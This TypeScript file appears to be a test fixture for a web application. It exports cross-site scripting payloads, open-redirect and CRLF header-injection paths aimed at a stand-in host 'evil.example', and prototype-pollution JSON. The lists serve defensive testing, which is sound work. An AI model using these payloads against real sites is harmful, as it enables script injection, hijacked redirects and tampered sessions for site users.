/**
 * Texts and paths that run as script or lead to another site, where a page takes them for markup, code or an address. One
 * that works sets `window.ran`, opens a dialog, or asks `hostileHost` for something.
 */

export const hostileHost = 'evil.example';

const run = 'window.ran=1';

/** Run where they become markup. */
export const markup = [
  `<script>${run}</script>`,
  `<scr<script>ipt>${run}</script>`,
  `<script\n>${run}</script\n>`,
  `<script src=//${hostileHost}/a.js></script>`,
  `"><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `--><script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror=&#119;indow.ran=1>`,
  `<svg/onload=${run}>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<math><mtext><style><img src=x onerror=${run}></style></mtext></math>`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<details open ontoggle=${run}>`,
  `<link rel=stylesheet href=//${hostileHost}/a.css>`,
  `<base href=//${hostileHost}/>`,
  `<meta http-equiv=refresh content="0;url=//${hostileHost}">`,
  `<form action=//${hostileHost}><button autofocus onfocus=this.click()>`,
];

/** Run where they become part of a script, an attribute or an address. */
export const code = [
  `';${run};'`,
  `\`;${run};\``,
  `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`,
  `$t(${run})`,
  `\\u0022;${run};//`,
  `\u2028${run}\u2029`,
  `" onmouseover="${run}" x="`,
  `javascript:${run}`,
  `java\tscript:${run}`,
  `\u0001javascript:${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `eval("${run}")`,
  `document.write("<script>${run}</script>")`,
];

/** Lead to another site where they become an address. */
const addresses = [
  `//${hostileHost}`,
  `https:${hostileHost}`,
  `http:/\\${hostileHost}`,
  `\\\\${hostileHost}`,
  `/\t/${hostileHost}`,
  `.//${hostileHost}`,
  `@${hostileHost}`,
  `en/../..//${hostileHost}`,
  `//${hostileHost}#en`,
];

export const hostileTexts: readonly string[] = [...markup, ...code, ...addresses];

/** Paths that a server or a script could take for more than a path. */
export const hostilePaths: readonly string[] = [
  `//${hostileHost}`,
  `///${hostileHost}/contact`,
  `//${hostileHost}%2f..`,
  `/en//${hostileHost}`,
  `/\\${hostileHost}`,
  `/\\/${hostileHost}/`,
  `/en/\\${hostileHost}`,
  `/%2f%2f${hostileHost}/`,
  `/en/%2f%2f${hostileHost}`,
  `/%252f%252f${hostileHost}`,
  `/%5c%5c${hostileHost}/`,
  `/.//${hostileHost}`,
  `/..//${hostileHost}`,
  `/contact/%2e%2e//${hostileHost}/../contact/`,
  `/%09/${hostileHost}/`,
  `/%0d%0aLocation:%20//${hostileHost}`,
  `/contact%0d%0aSet-Cookie:%20ran=1/`,
  `/contact/?%0d%0aX-Injected:%201`,
  `/contact/?lng=//${hostileHost}&redirectTo=//${hostileHost}`,
  `/https:/${hostileHost}`,
  `/javascript:${run}`,
  `/@${hostileHost}`,
  `/%00${hostileHost}`,
  `/%ff%fe//${hostileHost}`,
  `/"><img%20src=x%20onerror=${run}>`,
  `/%253Cscript%253E${run}%253C%252Fscript%253E`,
  `/service-courant_fort/%2e%2e/%2f${hostileHost}/`,
];

/** Stored drafts that are damaged, or that name what every object has. */
export const damagedDrafts: readonly string[] = [
  '{"__proto__":{"polluted":"1"},"constructor":{"prototype":{"polluted":"1"}}}',
  '{"toString":"1","hasOwnProperty":"1","message":{"toString":"1"}}',
  '[["__proto__",{"polluted":"1"}]]',
  '{"message":"cut',
];
